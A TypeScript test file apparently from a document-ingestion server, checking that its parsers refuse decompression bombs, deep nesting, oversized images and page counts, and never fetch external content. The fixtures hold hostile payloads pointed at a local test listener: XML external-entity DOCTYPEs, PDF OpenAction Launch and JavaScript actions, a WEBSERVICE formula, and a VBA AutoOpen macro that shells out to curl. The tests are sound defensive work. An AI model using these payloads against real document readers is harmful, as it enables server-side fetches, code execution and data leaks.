// @module-tag slow
import { createServer } from 'node:net';
import { deflateSync } from 'node:zlib';
import { makeZip } from '@nousboard/server/platform/make-zip';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { DocumentKind } from '../../packages/server/src/features/ingestion/child/messages.ts';
import { LIMITS } from '../../packages/server/src/features/ingestion/limits.ts';
import { ParserError } from '../../packages/server/src/features/ingestion/parsers/parser.ts';
import { filesOf } from '../../packages/server/src/features/ingestion/parsers/testing/file-of.ts';
import { makeDocx } from '../../packages/server/src/features/ingestion/parsers/testing/make-docx.ts';
import { makeEpub } from '../../packages/server/src/features/ingestion/parsers/testing/make-epub.ts';
import { makePdf } from '../../packages/server/src/features/ingestion/parsers/testing/make-pdf.ts';
import { body, makePptx, shape } from '../../packages/server/src/features/ingestion/parsers/testing/make-pptx.ts';
import { makeXlsx } from '../../packages/server/src/features/ingestion/parsers/testing/make-xlsx.ts';
import { readDocument } from '../../packages/server/src/features/ingestion/read-document.ts';

// What hurts, read by the real reader in its fence: each ends with its reason or is read, and none of them makes
// anybody call anywhere.

const PATIENCE_MS = 120_000;
const fileOf = filesOf('bomb');

let calls = 0;
const listener = createServer(socket => {
  calls += 1;
  socket.destroy();
});
/** Where every file points that points anywhere. */
let elsewhere = '';

beforeAll(async () => {
  await new Promise<void>(resolve => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  elsewhere = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
});
afterAll(() => void listener.close());

async function outcome(kind: DocumentKind, bytes: Uint8Array): Promise<string> {
  const parser =
    kind === 'pdf'
      ? 'pdfium'
      : kind === 'png' || kind === 'jpeg' || kind === 'webp'
        ? 'image'
        : kind === 'md'
          ? 'text'
          : 'flow';
  const request = {
    path: fileOf(bytes),
    kind,
    parser,
    title: 'Bomb',
    filename: 'bomb',
    earlier: null,
    recognise: 'never',
  } as const;
  let text = 0;
  try {
    for await (const { head } of readDocument(request, new AbortController().signal)) {
      if (head.type === 'segment') text += head.end - head.start;
      if (head.type === 'end') expect(head.peakBytes).toBeLessThan(LIMITS.residentBytes);
    }
  } catch (cause) {
    if (!(cause instanceof ParserError)) throw cause;
    return cause.reason;
  }
  return text > 0 ? 'read' : 'empty';
}

const page = (contents = ''): string =>
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 ' +
  `842]/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>${contents}>>`;
const words = { dictionary: '', bytes: 'BT /F 12 Tf 72 700 Td (Some words to be read on this page.) Tj ET' };
const onePage = (catalogue: string, more: Parameters<typeof makePdf>[0] = [], contents = ''): Buffer =>
  makePdf([
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    page(`/Contents 4 0 R${contents}`),
    words,
    ...more,
  ]);
const inflating = (megabytes: number): Buffer => deflateSync(Buffer.alloc(megabytes * 1_000_000, '0 0 m '));
/** Digits that pack badly, so that it is not the packing that is refused. */
const digits = (at: number): string => String((at * 2_654_435_761) % 4_294_967_296);

test(
  'twenty thousand pages are too many, whether they are many objects or one that is named again and again',
  async () => {
    const same = makePdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      `<</Type/Pages/Count 20000/Kids[${'3 0 R '.repeat(20_000)}]>>`,
      page(),
    ]);
    expect(await outcome('pdf', same)).toBe('too_many_pages');
    const kids = Array.from({ length: 20_000 }, (_, at) => `${at + 3} 0 R`);
    expect(
      await outcome(
        'pdf',
        makePdf([
          '<</Type/Catalog/Pages 2 0 R>>',
          `<</Type/Pages/Count 20000/Kids[${kids.join(' ')}]>>`,
          ...kids.map(() => page()),
        ]),
      ),
    ).toBe('too_many_pages');
    expect(await outcome('pptx', makePptx(Array.from({ length: LIMITS.pages + 1 }, () => ({ shapes: '' }))))).toMatch(
      /^too_(many_pages|large)$/,
    );
    expect(
      await outcome(
        'epub',
        makeEpub(Array.from({ length: LIMITS.pages + 1 }, (_, at) => ({ name: `${at}.xhtml`, body: '<p>a</p>' }))),
      ),
    ).toMatch(/^too_(many_pages|large)$/);
  },
  PATIENCE_MS,
);

test(
  'more than a million cells are too large',
  async () => {
    const columns = 1_000;
    const rows = Array.from(
      { length: 1_001 },
      (_, row) =>
        `<row r="${row + 1}">` +
        `${Array.from({ length: columns }, (_, at) => `<c><v>${digits(row * columns + at)}</v></c>`).join('')}</row>`,
    );
    expect(await outcome('xlsx', makeXlsx({ sheets: { Cells: rows.join('') } }))).toBe('too_large');
  },
  PATIENCE_MS,
);

test(
  'deep nesting is refused or harmless in every kind',
  async () => {
    const deep = 50_000;
    const bookmarks = `<</Type/Catalog/Pages 2 0 R/Deep ${'['.repeat(deep)}${']'.repeat(deep)}>>`;
    expect(
      await outcome('pdf', makePdf([bookmarks, '<</Type/Pages/Kids[3 0 R]/Count 1>>', page('/Contents 4 0 R'), words])),
    ).toMatch(/^(read|damaged)$/);
    const tree = Array.from({ length: 5_000 }, (_, at) => `<</Type/Pages/Count 1/Kids[${at + 3} 0 R]>>`);
    expect(await outcome('pdf', makePdf(['<</Type/Catalog/Pages 2 0 R>>', ...tree, page()]))).toMatch(
      /^(damaged|no_text|empty|parser_crashed)$/,
    );
    expect(
      await outcome('pdf', makePdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[2 0 R]>>'])),
    ).toMatch(/^(damaged|empty)$/);
    expect(await outcome('docx', makeDocx({ body: '<w:sdt><w:sdtContent>'.repeat(deep) }))).toBe('too_large');
    expect(await outcome('pptx', makePptx([{ shapes: '<p:grpSp>'.repeat(deep) }]))).toBe('too_large');
    expect(await outcome('xlsx', makeXlsx({ sheets: { Deep: '<row>'.repeat(deep) } }))).toBe('too_large');
    expect(await outcome('epub', makeEpub([{ name: 'a.xhtml', body: '<blockquote>'.repeat(deep) }]))).toBe('too_large');
    expect(await outcome('md', Buffer.from(`${'>'.repeat(deep)} words\n${'- '.repeat(deep)}words\n`))).toBe('read');
  },
  PATIENCE_MS,
);

test(
  'what unpacks into hundreds of megabytes is refused, or never unpacked whole',
  async () => {
    expect(
      await outcome(
        'pdf',
        onePage('', [{ dictionary: '/Filter/FlateDecode', bytes: inflating(120) }], '/Annots[5 0 R]'),
      ),
    ).toBe('read');
    const contents = makePdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      page('/Contents 4 0 R'),
      { dictionary: '/Filter/FlateDecode', bytes: inflating(120) },
    ]);
    expect(await outcome('pdf', contents)).toMatch(/^(empty|no_text|damaged|too_much_memory|took_too_long)$/);
    const bomb = Buffer.alloc(150_000_000, ' ');
    for (const [kind, part, whole] of [
      ['docx', 'word/document.xml', makeDocx({ body: '' })],
      ['epub', 'META-INF/container.xml', makeEpub([])],
    ] as const)
      expect(
        await outcome(kind, Buffer.concat([makeZip({ '[Content_Types].xml': typesOf(whole), [part]: bomb })])),
        kind,
      ).toBe('too_large');
    expect(
      await outcome(
        'xlsx',
        makeXlsx({
          sheets: { S: '<row/>' },
          more: { 'xl/sharedStrings.xml': `<sst>${' '.repeat(120_000_000)}</sst>` },
        }),
      ),
    ).toBe('too_large');
    expect(await outcome('pptx', makePptx([{ shapes: ' '.repeat(120_000_000) }]))).toBe('too_large');
  },
  PATIENCE_MS,
);

/** The list of types of a sound container, which stands in it unpacked by none: written anew. */
const typesOf = (whole: Buffer): string =>
  whole.includes('word/document.xml')
    ? '<Types><Override PartName="/word/document.xml" ' +
      'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    : '<Types/>';

test(
  'pictures of more pixels than anybody wants are refused by what their heads say',
  async () => {
    const chunk = (type: string, data: Buffer): Buffer =>
      Buffer.concat([u32(data.length), Buffer.from(type, 'latin1'), data, u32(0)]);
    const png = Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      chunk('IHDR', Buffer.concat([u32(60_000), u32(60_000), Buffer.from([8, 0, 0, 0, 0])])),
      chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    expect(await outcome('png', png)).toMatch(/^(too_large|damaged)$/);
    const jpeg = Buffer.from(
      'ffd8ffe000104a46494600010100000100010000ffc0000b08ffdcffdc01011100ffda0008010100003f00ffd9',
      'hex',
    );
    expect(await outcome('jpeg', jpeg)).toMatch(/^(too_large|damaged)$/);
    const image = {
      dictionary:
        '/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent ' +
        '8/Filter/FlateDecode',
      bytes: deflateSync(Buffer.alloc(60_000_000)),
    };
    const drawn = { dictionary: '', bytes: 'q 595 0 0 842 0 0 cm /P Do Q' };
    const pdf = makePdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</P 5 0 R>>>>>>',
      drawn,
      image,
    ]);
    expect(await outcome('pdf', pdf)).toMatch(/^(empty|no_text|too_much_memory|took_too_long)$/);
    expect(
      await outcome(
        'pdf',
        makePdf([
          '<</Type/Catalog/Pages 2 0 R>>',
          '<</Type/Pages/Kids[3 0 R]/Count 1>>',
          page('/UserUnit 75000/Contents 4 0 R'),
          words,
        ]),
      ),
    ).toBe('read');
  },
  PATIENCE_MS,
);

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

test(
  'what lies elsewhere is not fetched, by whatever it is named, and macros are passed over',
  async () => {
    const external = (type: string): string =>
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
      `Target="${elsewhere}/${type}" TargetMode="External"/></Relationships>`;
    const field =
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "${elsewhere}/field"</w:instrText>` +
      '<w:fldChar w:fldCharType="end"/><w:t>Some words.</w:t></w:r></w:p>';
    const graphics = { chart: `<c:chartSpace xmlns:c="c" xmlns:r="r"><c:externalData r:id="rIdX"/></c:chartSpace>` };
    expect(await outcome('docx', makeDocx({ body: field, graphics }))).toBe('read');
    expect(
      await outcome(
        'xlsx',
        makeXlsx({
          sheets: { S: cellOf(`=WEBSERVICE("${elsewhere}")`) },
          more: { 'xl/externalLinks/_rels/externalLink1.xml.rels': external('externalLinkPath') },
        }),
      ),
    ).toBe('read');
    const slide = {
      shapes: shape(body('Some words.')),
      parts: { rIdX: ['image', 'media/none.xml', `<a href="${elsewhere}"/>`] as const },
    };
    expect(await outcome('pptx', makePptx([slide]))).toBe('read');
    const book =
      `<p>Some words.</p><img src="${elsewhere}/img"/><link rel="stylesheet" href="${elsewhere}/css"/>` +
      `<script src="${elsewhere}/js"></script><object data="${elsewhere}/object"></object>` +
      `<iframe src="${elsewhere}/frame"></iframe>`;
    expect(await outcome('epub', makeEpub([{ name: 'a.xhtml', body: book }]))).toBe('read');
    expect(
      await outcome('md', Buffer.from(`![picture](${elsewhere}/md)\n\n<img src="${elsewhere}/html">\n\nSome words.\n`)),
    ).toBe('read');
    const actions = [
      `/OpenAction<</S/URI/URI(${elsewhere}/uri)>>`,
      `/OpenAction<</S/GoToR/F<</FS/URL/F(${elsewhere}/remote.pdf)>>/D[0/Fit]>>`,
      `/OpenAction<</S/Launch/F(${elsewhere}/launch)>>`,
      `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${elsewhere}/form)>>>>`,
      `/OpenAction<</S/JavaScript/JS(this.submitForm\\("${elsewhere}/js"\\);app.launchURL\\("${elsewhere}/js"\\);)>>`,
    ];
    for (const action of actions) expect(await outcome('pdf', onePage(action)), action).toBe('read');
    const xfa =
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' +
      '<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><ui><imageEdit/></ui><value>' +
      `<image href="${elsewhere}/xfa"/></value></field></subform></template></xdp:xdp>`;
    expect(await outcome('pdf', onePage('/AcroForm<</XFA 5 0 R/Fields[]>>', [{ dictionary: '', bytes: xfa }]))).toBe(
      'read',
    );
    const outside = onePage('', [{ dictionary: `/F<</FS/URL/F(${elsewhere}/stream)>>`, bytes: '' }], '/Annots[5 0 R]');
    expect(await outcome('pdf', outside)).toBe('read');
    expect(calls).toBe(0);
  },
  PATIENCE_MS,
);

test(
  'a document type that leads elsewhere is refused, and nobody goes there',
  async () => {
    const doctype =
      `<!DOCTYPE w [<!ENTITY out SYSTEM "${elsewhere}/entity"><!ENTITY % more SYSTEM ` + `"${elsewhere}/dtd"> %more;]>`;
    expect(await outcome('docx', makeDocx({ body: '<w:p><w:r><w:t>&out;</w:t></w:r></w:p>', prolog: doctype }))).toBe(
      'damaged',
    );
    expect(
      await outcome(
        'xlsx',
        makeXlsx({
          sheets: { S: cellOf('words') },
          more: { 'xl/sharedStrings.xml': `${doctype}<sst><si><t>&out;</t></si></sst>` },
        }),
      ),
    ).toBe('damaged');
    const whole =
      `<?xml version="1.0"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body>` +
      '<p>&out; words</p></body></html>';
    expect(await outcome('epub', makeEpub([{ name: 'a.xhtml', body: '', whole }]))).toMatch(/^(damaged|read)$/);
    expect(calls).toBe(0);
  },
  PATIENCE_MS,
);

test(
  'a document with macros is read for its words',
  async () => {
    const macro = Buffer.from(`Attribute VB_Name\r\nSub AutoOpen()\r\nShell "curl ${elsewhere}/macro"\r\nEnd Sub\r\n`);
    const types = (part: string, type: string): string =>
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      `<Override PartName="/${part}" ContentType="application/${type}"/></Types>`;
    expect(
      await outcome(
        'xlsx',
        makeXlsx({
          sheets: { S: cellOf('words') },
          more: {
            '[Content_Types].xml': types('xl/workbook.xml', 'vnd.ms-excel.sheet.macroEnabled.main+xml'),
            'xl/vbaProject.bin': macro.toString(),
          },
        }),
      ),
    ).toBe('read');
    expect(calls).toBe(0);
  },
  PATIENCE_MS,
);

const cellOf = (text: string): string =>
  `<row r="1"><c r="A1" t="inlineStr"><is><t>${text.replaceAll('"', '&quot;')}</t></is></c></row>`;
